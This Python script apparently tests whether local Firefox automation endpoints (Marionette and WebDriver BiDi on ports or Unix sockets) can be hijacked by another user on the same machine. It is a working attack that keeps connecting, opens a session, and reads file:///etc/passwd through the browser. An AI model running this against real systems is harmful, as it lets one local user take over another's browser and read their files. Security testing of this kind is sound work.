# Another user of the machine: tries to get a session of every Firefox it is told of, again and again.
# Reads lines "port N" and "path P"; says "GOT ..." for each session, "REACHED ..." for each socket, "round N" after each round.
import base64, json, os, socket, struct, sys, threading

targets, lock = [], threading.Lock()


def listen():
    for line in sys.stdin:
        kind, name = line.rstrip("\n").split(" ", 1)
        with lock:
            targets.append((kind, name))
    os._exit(0)


def exactly(conn, count):
    data = b""
    while len(data) < count:
        more = conn.recv(count - len(data))
        if not more:
            raise OSError("closed")
        data += more
    return data


def marionette(conn, _):
    def receive():
        length = b""
        while not length.endswith(b":"):
            length += exactly(conn, 1)
            if len(length) > 9:
                raise OSError("not Marionette")
        return json.loads(exactly(conn, int(length[:-1])))

    def ask(number, name, params):
        text = json.dumps([0, number, name, params]).encode()
        conn.sendall(str(len(text)).encode() + b":" + text)
        answer = receive()
        if answer[2]:
            raise OSError(answer[2]["message"])
        return answer[3]

    # It speaks first, and at once; what does not is something else.
    conn.settimeout(0.5)
    receive()
    conn.settimeout(20)
    ask(1, "WebDriver:NewSession", {})
    ask(2, "WebDriver:Navigate", {"url": "file:///etc/passwd"})
    return ask(3, "WebDriver:GetPageSource", {})["value"]


def bidi(conn, host):
    key = base64.b64encode(os.urandom(16)).decode()
    conn.sendall((
        f"GET /session HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += exactly(conn, 1)
    if b" 101 " not in head.split(b"\r\n")[0]:
        raise OSError("no WebSocket")

    def ask(number, method, params):
        text = json.dumps({"id": number, "method": method, "params": params}).encode()
        mask = os.urandom(4)
        length = bytes([0x80 | len(text)]) if len(text) < 126 else struct.pack(">BH", 0xFE, len(text))
        conn.sendall(b"\x81" + length + mask + bytes(
            byte ^ mask[place % 4] for place, byte in enumerate(text)))
        while True:
            _, length = exactly(conn, 2)
            if length == 126:
                length = struct.unpack(">H", exactly(conn, 2))[0]
            elif length == 127:
                length = struct.unpack(">Q", exactly(conn, 8))[0]
            answer = json.loads(exactly(conn, length))
            if answer.get("id") == number:
                if answer["type"] == "error":
                    raise OSError(answer["message"])
                return answer["result"]

    ask(1, "session.new", {"capabilities": {}})
    try:
        return read_file(ask)
    finally:
        # One that came too early, before there was a tab, would keep itself out.
        ask(9, "session.end", {})


def read_file(ask):
    tab = ask(2, "browsingContext.getTree", {})["contexts"][0]["context"]
    ask(3, "browsingContext.navigate", {"context": tab, "url": "file:///etc/passwd", "wait": "complete"})
    page = {"expression": "document.documentElement.innerText", "target": {"context": tab}, "awaitPromise": False}
    return ask(4, "script.evaluate", page)["result"]["value"]


def attack(kind, name):
    for speak in (marionette, bidi):
        if kind == "port":
            conn = socket.create_connection(("127.0.0.1", int(name)), timeout=20)
        else:
            conn = socket.socket(socket.AF_UNIX)
            conn.settimeout(20)
            conn.connect("\0" + name[1:] if name.startswith("@") else name)
            print("REACHED", name, flush=True)
        try:
            read = speak(conn, f"127.0.0.1:{name}" if kind == "port" else "127.0.0.1")
            print("GOT", kind, name, "root:" in read, flush=True)
        except (OSError, ValueError, LookupError):
            pass
        finally:
            conn.close()


assert os.geteuid() != 0, "it has to be somebody else"
threading.Thread(target=listen, daemon=True).start()
number = 0
while True:
    with lock:
        now = list(targets)
    for kind, name in now:
        try:
            attack(kind, name)
        except OSError:
            pass
    number += 1
    print("round", number, flush=True)
    # Nothing is lost by a breath: a port that is open stays open.
    threading.Event().wait(0.002)
